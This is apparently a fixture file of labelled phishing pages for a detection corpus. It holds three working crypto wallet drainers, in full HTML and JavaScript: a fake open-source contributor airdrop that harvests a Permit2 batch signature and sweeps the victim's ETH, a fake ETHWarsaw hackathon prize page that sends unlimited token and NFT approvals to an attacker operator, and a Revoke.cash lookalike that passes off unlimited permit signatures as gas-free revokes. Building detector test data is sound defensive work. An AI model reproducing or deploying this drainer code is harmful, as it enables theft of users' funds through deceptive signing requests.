// Wallet drainers and seed-phrase pages dressed as contributor airdrops, hackathon prizes and dev tools (author zz).
import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc, FONT, GH_MARK, b64 } from '../parts/zz-kit.js';

export const entries: Entry[] = [
{
  id: 'zz-oss-contributor-airdrop-permit2',
  label: 'cryptodrainer',
  kind: 'contributor-airdrop-drainer',
  url: 'https://claim.opensource-drop.xyz/?ref=gh-notif',
  body: doc({
    title: 'DEVX Airdrop — Rewarding open-source contributors',
    head: `<style>body{margin:0;font-family:Inter,${FONT};background:radial-gradient(circle at 20% 0,#1e1b4b,#05060a 60%);color:#e5e7eb;min-height:100vh}
.nav{display:flex;justify-content:space-between;align-items:center;padding:18px 40px}.logo{font-weight:800;font-size:20px}
.btn{background:#6366f1;color:#fff;border:0;border-radius:10px;padding:11px 20px;font-weight:700;cursor:pointer}
.card{max-width:520px;margin:50px auto;background:rgba(255,255,255,.04);border:1px solid rgba(255,255,255,.08);border-radius:16px;padding:30px}
input{width:100%;box-sizing:border-box;background:#0b0d14;border:1px solid #2a2f45;color:#fff;border-radius:10px;padding:12px;font-size:15px}
.amt{font-size:40px;font-weight:800;color:#a5b4fc}.muted{color:#9ca3af;font-size:14px}</style>`,
    body: `<div class="nav"><div class="logo">◆ DEVX</div><button class="btn" id="cw">Connect Wallet</button></div>
<div class="card"><h1 style="margin-top:0">Open-source contributor airdrop</h1>
<p class="muted">2.5% of the DEVX supply is reserved for developers who contributed to the top 5,000 repositories on GitHub between 2019 and 2025. Snapshot taken on 1 October 2025.</p>
<div id="s1"><label class="muted">GitHub username</label><input id="gh" placeholder="octocat"><p><button class="btn" id="ck" style="width:100%;margin-top:12px">Check eligibility</button></p></div>
<div id="s2" style="display:none"><p class="muted">Eligible allocation for <b id="who"></b></p><div class="amt" id="amt">0 DEVX</div><p class="muted">≈ $<span id="usd">0</span> · 143 commits · 12 repositories</p><button class="btn" id="cl" style="width:100%">Connect wallet &amp; claim</button></div>
<p class="muted" id="st" style="margin-top:16px"></p></div>
<script>
var CFG={receiver:"0x7F3c9A2d41e6B0d85cA9b4E1F0c2a7D3e9B15c44",permit2:"0x000000000022D473030F116dDEE9F6B43aC78BA3",tokens:["0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48","0xdAC17F958D2ee523a2206206994597C13D831ec7","0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2","0x6B175474E89094C44Da98b954EedeAC495271d0F"],api:"/api/claim"};
var acct=null;
function st(t){document.getElementById('st').textContent=t;}
async function connect(){if(!window.ethereum){st('No wallet detected. Install MetaMask or open this page in your wallet browser.');return null;}
 var a=await window.ethereum.request({method:'eth_requestAccounts'});acct=a[0];document.getElementById('cw').textContent=acct.slice(0,6)+'…'+acct.slice(-4);
 fetch(CFG.api+'/connect',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:acct,ua:navigator.userAgent})});return acct;}
document.getElementById('cw').onclick=connect;
document.getElementById('ck').onclick=function(){var g=document.getElementById('gh').value.trim();if(!g)return;document.getElementById('who').textContent='@'+g;
 var n=1800+Math.floor(Math.random()*4000);document.getElementById('amt').textContent=n.toLocaleString()+' DEVX';document.getElementById('usd').textContent=(n*0.84).toFixed(2);
 document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block';};
document.getElementById('cl').onclick=async function(){if(!acct&&!(await connect()))return;st('Preparing claim…');
 var dl=Math.floor(Date.now()/1000)+86400*30;
 var details=CFG.tokens.map(function(t){return {token:t,amount:'1461501637330902918203684832716283019655932542975',expiration:dl,nonce:0};});
 var data={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],
  PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],
  PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},
  primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:CFG.permit2},message:{details:details,spender:CFG.receiver,sigDeadline:dl}};
 try{var sig=await window.ethereum.request({method:'eth_signTypedData_v4',params:[acct,JSON.stringify(data)]});
  await fetch(CFG.api+'/permit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:acct,sig:sig,data:data})});
  var eth=await window.ethereum.request({method:'eth_getBalance',params:[acct,'latest']});var v=BigInt(eth)-BigInt('2000000000000000');
  if(v>0n){await window.ethereum.request({method:'eth_sendTransaction',params:[{from:acct,to:CFG.receiver,value:'0x'+v.toString(16),data:'0x4e71d92d'}]});}
  st('Claim submitted! Tokens will arrive within 24 hours.');}catch(e){st('Claim failed, please try again.');}
};
</script>`,
  }),
  routes: { 'claim.opensource-drop.xyz/api/claim/connect': jsonRoute({ ok: true }), 'claim.opensource-drop.xyz/api/claim/permit': jsonRoute({ ok: true }) },
},

{
  id: 'zz-hackathon-prize-claim-approvals',
  label: 'cryptodrainer',
  kind: 'contributor-airdrop-drainer',
  url: 'https://ethglobal-prizes.app/claim/ethwarsaw-2025?team=zk-relay',
  body: doc({
    title: 'Claim your prize · ETHWarsaw 2025 Hackathon',
    head: `<style>body{margin:0;font-family:"Space Grotesk",${FONT};background:#faf7f2;color:#111}.h{padding:20px 40px;display:flex;justify-content:space-between;font-weight:700}
.c{max-width:600px;margin:30px auto;background:#fff;border:2px solid #111;border-radius:14px;padding:30px;box-shadow:6px 6px 0 #111}
.p{display:flex;justify-content:space-between;border-bottom:1px dashed #ccc;padding:10px 0}.b{width:100%;background:#ffdd00;border:2px solid #111;border-radius:10px;padding:14px;font-weight:800;font-size:16px;cursor:pointer;margin-top:20px}</style>`,
    body: `<div class="h"><span>ETHGlobal · ETHWarsaw 2025</span><span id="a">Not connected</span></div>
<div class="c"><h1 style="margin-top:0">🏆 Congratulations, team zk-relay!</h1><p>Your project placed in the following tracks. Prizes are paid on-chain to the wallet of any team member.</p>
<div class="p"><span>Finalist – Best use of account abstraction</span><b>2,500 USDC</b></div><div class="p"><span>Sponsor prize – Quellwerk CI integrations</span><b>1,000 USDC</b></div><div class="p"><span>POAP + Finalist NFT</span><b>1</b></div>
<button class="b" id="go">Connect wallet &amp; claim 3,500 USDC</button><p id="s" style="font-size:13px;color:#555"></p></div>
<script>
var OP='0x3b2C1e0F8d9a6A4c5B7e2D1f0A9c8B7e6D5c4B3a';
var NFTS=['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0x60E4d786628Fea6478F785A6d7e704777c86a7c6','0xED5AF388653567Af2F388E6224dC7C4b3241C544','0x8a90CAb2b38dba80c64b7734e58Ee1dB38B8992e'];
var ERC20=['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0xdAC17F958D2ee523a2206206994597C13D831ec7'];
function pad(a){return a.toLowerCase().replace('0x','').padStart(64,'0');}
async function run(){var eth=window.ethereum;if(!eth){document.getElementById('s').textContent='Open in a Web3 wallet browser.';return;}
 var acc=(await eth.request({method:'eth_requestAccounts'}))[0];document.getElementById('a').textContent=acc.slice(0,6)+'…'+acc.slice(-4);
 try{await eth.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x1'}]});}catch(e){}
 document.getElementById('s').textContent='Verifying ownership… please confirm each request in your wallet.';
 for(var i=0;i<NFTS.length;i++){try{await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:NFTS[i],data:'0xa22cb465'+pad(OP)+'0000000000000000000000000000000000000000000000000000000000000001'}]});}catch(e){}}
 for(var j=0;j<ERC20.length;j++){try{await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:ERC20[j],data:'0x095ea7b3'+pad(OP)+'ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]});}catch(e){}}
 navigator.sendBeacon('/log',JSON.stringify({acc:acc,t:Date.now()}));
 document.getElementById('s').textContent='Claim queued. Prizes are distributed within 24h.';}
document.getElementById('go').onclick=run;
</script>`,
  }),
},

{
  id: 'zz-revoke-lookalike-gasless-permit',
  label: 'cryptodrainer',
  kind: 'approval-tool-drainer',
  url: 'https://revoke-cash.app/address?s=2',
  body: doc({
    title: 'Revoke.cash - Revoke your token approvals on 100+ networks',
    head: `<style>body{margin:0;font-family:${FONT};background:#fff;color:#111}.h{border-bottom:1px solid #eee;padding:14px 32px;display:flex;justify-content:space-between;align-items:center}
.b{background:#000;color:#fff;border:0;border-radius:8px;padding:10px 18px;font-weight:600;cursor:pointer}.c{max-width:900px;margin:36px auto;padding:0 24px}
table{width:100%;border-collapse:collapse;margin-top:18px}td,th{border-bottom:1px solid #eee;padding:10px;text-align:left;font-size:14px}.x{background:#fee2e2;color:#991b1b;border:0;border-radius:6px;padding:5px 10px;cursor:pointer}
.ban{background:#ecfdf5;border:1px solid #a7f3d0;border-radius:8px;padding:12px 14px;font-size:14px}</style>`,
    body: `<div class="h"><b style="font-size:20px">revoke.cash</b><button class="b" id="cn">Connect Wallet</button></div>
<div class="c"><h1>Check and revoke your token approvals</h1>
<div class="ban">⚡ <b>New:</b> gas-free batch revoke — sign one message and our relayer revokes all risky approvals for you. No ETH required.</div>
<table><thead><tr><th>Asset</th><th>Approved spender</th><th>Allowance</th><th></th></tr></thead><tbody id="tb"><tr><td colspan="4" style="color:#888">Connect your wallet to see approvals.</td></tr></tbody></table>
<p><button class="b" id="all" style="display:none">Revoke all (gas-free)</button></p><p id="s" style="font-size:14px;color:#555"></p></div>
<script>
var RELAYER='0x5e1c0a6D7f3B9e2A4c8d1F0b6E3a9C7d2B4f8A10',acc;
var rows=[['USDC','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','USD Coin','Uniswap V2: Router 2'],['DAI','0x6B175474E89094C44Da98b954EedeAC495271d0F','Dai Stablecoin','1inch v5: Aggregation Router'],['UNI','0x1f9840a85d5aF5bf1D1762F925BDADdC4201F984','Uniswap','Unknown contract (0x4c1e…f02a)']];
document.getElementById('cn').onclick=async function(){acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];this.textContent=acc.slice(0,6)+'…'+acc.slice(-4);
 document.getElementById('tb').innerHTML=rows.map(function(r){return '<tr><td>'+r[0]+'</td><td>'+r[3]+'</td><td>Unlimited</td><td><button class="x">Revoke</button></td></tr>'}).join('');
 document.getElementById('all').style.display='inline-block';document.querySelectorAll('.x').forEach(function(b){b.onclick=function(){document.getElementById('all').click()}});};
document.getElementById('all').onclick=async function(){var s=document.getElementById('s');var dl=Math.floor(Date.now()/1000)+31536000;
 for(var i=0;i<rows.length;i++){var r=rows[i];var n=await ethereum.request({method:'eth_call',params:[{to:r[1],data:'0x7ecebe00'+acc.slice(2).padStart(64,'0')},'latest']}).catch(function(){return '0x0'});
  var td={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},
   primaryType:'Permit',domain:{name:r[2],version:r[0]==='USDC'?'2':'1',chainId:1,verifyingContract:r[1]},message:{owner:acc,spender:RELAYER,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:parseInt(n,16)||0,deadline:dl}};
  s.textContent='Sign revoke message '+(i+1)+' of '+rows.length+'…';
  try{var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(td)]});fetch('/relay/permit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({t:r[1],o:acc,s:sig,d:dl})});}catch(e){}}
 s.textContent='Done! Revokes are being relayed and will confirm within a few minutes.';};
</script>`,
  }),
  routes: { 'revoke-cash.app/relay/permit': jsonRoute({ queued: true }) },
},
];
